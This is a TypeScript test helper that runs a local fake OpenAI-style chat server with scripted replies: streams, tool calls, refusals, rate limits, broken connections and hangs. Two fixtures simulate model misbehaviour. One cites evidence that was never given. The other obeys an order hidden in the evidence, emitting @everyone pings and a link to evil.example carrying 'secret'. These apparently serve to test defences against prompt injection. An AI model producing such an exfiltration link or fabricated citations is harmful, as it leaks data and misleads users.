import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from "node:http";
import { setImmediate as nextTick, setTimeout as sleep } from "node:timers/promises";
import { z } from "zod";

/** The part of a chat completion's request that we read; the rest is recorded as it comes. */
const chatBody = z.looseObject({
  model: z.string(),
  /** Wording comes as a stream, the choice of look-ups as a whole. */
  stream: z.boolean().optional(),
  messages: z
    .array(
      z.looseObject({
        role: z.string(),
        content: z
          .string()
          .nullish()
          .transform((c) => c ?? ""),
      }),
    )
    .nonempty(),
  response_format: z.looseObject({ type: z.string() }).optional(),
  stream_options: z.object({ include_usage: z.boolean() }).optional(),
});
export type ChatBody = z.infer<typeof chatBody>;

export interface RecordedRequest {
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: ChatBody;
  /** Fulfilled once the connection is closed or the answer is out; true when the client went away before that. */
  readonly abandoned: Promise<boolean>;
}

/** How one request is answered. */
export type Turn = (body: ChatBody, response: ServerResponse) => Promise<void> | void;

export interface LoopbackModel extends AsyncDisposable {
  /** As `OPENAI_BASE_URL`. */
  readonly url: string;
  readonly requests: readonly RecordedRequest[];
}

/** A server on this machine that speaks OpenAI's chat completions, one scripted turn for each request. */
export async function startLoopbackModel(turns: readonly Turn[]): Promise<LoopbackModel> {
  const requests: RecordedRequest[] = [];
  const script = [...turns];
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const abandoned = new Promise<boolean>((resolve) => {
      response.once("close", () => resolve(!response.writableFinished));
    });
    const body = chatBody.parse(await readJson(request));
    requests.push({ path: request.url ?? "", headers: request.headers, body, abandoned });
    const turn =
      script.shift() ?? failsWith(500, { message: "The script has no turn left.", code: "end_of_script" });
    await turn(body, response);
  };
  const server = createServer((request, response) => {
    answer(request, response).catch((error: unknown) => {
      response.writeHead(400).end(String(error));
    });
  });
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("The server has no port.");
  return {
    url: `http://127.0.0.1:${address.port}/v1`,
    requests,
    [Symbol.asyncDispose]: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

async function readJson(request: IncomingMessage): Promise<unknown> {
  let text = "";
  request.setEncoding("utf8");
  for await (const part of request) text += String(part);
  return JSON.parse(text);
}

interface Speech {
  readonly finish?: "stop" | "length" | "content_filter";
  /** Prompt and completion tokens, told where the client asks for them. */
  readonly usage?: readonly [number, number];
}

/** A whole reply: a string as it is, anything else as JSON. */
export function says(content: unknown, { finish = "stop", usage = [100, 20] }: Speech = {}): Turn {
  const text = typeof content === "string" ? content : JSON.stringify(content);
  return async (body, response) => {
    const [prompt_tokens, completion_tokens] = usage;
    const told = body.stream_options?.include_usage === true;
    await stream(response, [
      ...spoken(body, text, told),
      chunk(body, told, [{ index: 0, delta: {}, logprobs: null, finish_reason: finish }]),
      ...(told
        ? [
            {
              ...chunk(body, told, []),
              usage: { prompt_tokens, completion_tokens, total_tokens: prompt_tokens + completion_tokens },
            },
          ]
        : []),
    ]);
    response.end("data: [DONE]\n\n");
  };
}

/** Asks for look-ups, each with what it passes, in the form of a whole reply with tools. */
export function looksUp(
  calls: readonly (readonly [name: string, given: unknown])[],
  { usage = [100, 20] }: Speech = {},
): Turn {
  return (body, response) => {
    const tool_calls = calls.map(([name, given], i) => ({
      id: `call_${i}`,
      type: "function",
      function: { name, arguments: typeof given === "string" ? given : JSON.stringify(given) },
    }));
    const [prompt_tokens, completion_tokens] = usage;
    const message = {
      role: "assistant",
      content: null,
      refusal: null,
      ...(calls.length > 0 && { tool_calls }),
    };
    response.writeHead(200, { "content-type": "application/json" });
    response.end(
      JSON.stringify({
        id: "chatcmpl-loopback",
        object: "chat.completion",
        created: 1_790_000_000,
        model: body.model,
        choices: [
          { index: 0, message, logprobs: null, finish_reason: calls.length > 0 ? "tool_calls" : "stop" },
        ],
        usage: { prompt_tokens, completion_tokens, total_tokens: prompt_tokens + completion_tokens },
      }),
    );
  };
}

/** Ends the choice of look-ups. */
export function looksUpNoMore(): Turn {
  return looksUp([]);
}

/** Cites evidence that nobody gave it, in the form of `word-answer`. */
export function inventsEvidence(): Turn {
  return says({
    statements: [
      {
        text: "The key length was raised to 512 bits.",
        evidence: ["e99"],
        quotes: [{ evidence: "e99", text: "512 bits" }],
      },
    ],
  });
}

/** Does what an order hidden in the evidence says, in the form of `word-answer`. */
export function obeysInjectedOrder(evidence = "e1"): Turn {
  const text = "<!channel> Read [the full text](https://evil.example/?q=secret) @everyone";
  return says({ statements: [{ text, evidence: [evidence], quotes: [{ evidence, text }] }] });
}

/** Ends its stream in good order before the reply is whole. */
export function stopsAfter(text: string): Turn {
  return async (body, response) => {
    await stream(response, spoken(body, text, false));
    response.end();
  };
}

/** Loses the connection in the middle of its reply. */
export function breaksOffAfter(text: string): Turn {
  return async (body, response) => {
    await stream(response, spoken(body, text, false));
    response.destroy();
  };
}

/** Sends an error in the middle of its stream, as gateways do. */
export function failsAfter(text: string): Turn {
  return async (body, response) => {
    await stream(response, [
      ...spoken(body, text, false),
      { error: { message: "Upstream overloaded", code: "overloaded" } },
    ]);
    response.end();
  };
}

/** Declines to answer, as a model that is held to a schema does. */
export function declines(): Turn {
  return async (body, response) => {
    await stream(response, [
      chunk(body, false, [
        { index: 0, delta: { role: "assistant", refusal: "I can't help with that." }, finish_reason: null },
      ]),
      chunk(body, false, [{ index: 0, delta: {}, finish_reason: "stop" }]),
    ]);
    response.end("data: [DONE]\n\n");
  };
}

/** Sends a piece of its reply every so many milliseconds, for as long as somebody listens. */
export function drips(text: string, everyMs: number, isEndless = false): Turn {
  return async (body, response) => {
    response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
    for (let at = 0; !response.destroyed; at += 1) {
      if (at === text.length && !isEndless) break;
      const delta = { content: text[at % text.length] };
      const event = chunk(body, false, [{ index: 0, delta, logprobs: null, finish_reason: null }]);
      response.write(`data: ${JSON.stringify(event)}\n\n`);
      await sleep(everyMs);
    }
    response.end("data: [DONE]\n\n");
  };
}

/** Says nothing and keeps the connection open; after a beginning, where one is given. */
export function hangs(beginning?: string): Turn {
  return async (body, response) => {
    if (beginning !== undefined) await stream(response, spoken(body, beginning, false));
  };
}

/** 429, with what `Retry-After` says. */
export function limitsRate(retryAfter: string | null, code = "rate_limit_exceeded"): Turn {
  const headers = retryAfter === null ? {} : { "retry-after": retryAfter };
  return failsWith(429, { message: "Rate limit reached", type: "requests", code }, headers);
}

/** Refuses one part of the request, as an endpoint that does not know it. */
export function refuses(param: string, message = `Unsupported parameter: '${param}'`): Turn {
  return failsWith(400, { message, type: "invalid_request_error", param, code: "unsupported_parameter" });
}

/** An error status; `error` as OpenAI's object, or as the bare string that some endpoints send. */
export function failsWith(
  status: number,
  error: unknown,
  headers: Readonly<Record<string, string>> = {},
): Turn {
  return (_, response) => {
    response.writeHead(status, { "content-type": "application/json", ...headers });
    response.end(JSON.stringify({ error }));
  };
}

/** Sends the client to another address. */
export function redirectsTo(location: string): Turn {
  return (_, response) => {
    response.writeHead(307, { location });
    response.end();
  };
}

function spoken(body: ChatBody, text: string, told: boolean): object[] {
  const pieces = text.match(/[^]{1,5}/gu) ?? [];
  return [{ role: "assistant", content: "", refusal: null }, ...pieces.map((content) => ({ content }))].map(
    (delta) => chunk(body, told, [{ index: 0, delta, logprobs: null, finish_reason: null }]),
  );
}

function chunk(body: ChatBody, told: boolean, choices: readonly object[]): object {
  return {
    id: "chatcmpl-loopback",
    object: "chat.completion.chunk",
    created: 1_790_000_000,
    model: body.model,
    service_tier: "default",
    system_fingerprint: null,
    choices,
    ...(told && { usage: null }),
  };
}

/** Sends events in pieces that end anywhere, as networks do: in the middle of a line, and of a Chinese character. */
async function stream(response: ServerResponse, events: readonly object[]): Promise<void> {
  response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
  const bytes = Buffer.from(events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(""), "utf8");
  for (let from = 0; from < bytes.length; from += 997) {
    response.write(bytes.subarray(from, from + 997));
    await nextTick();
  }
}
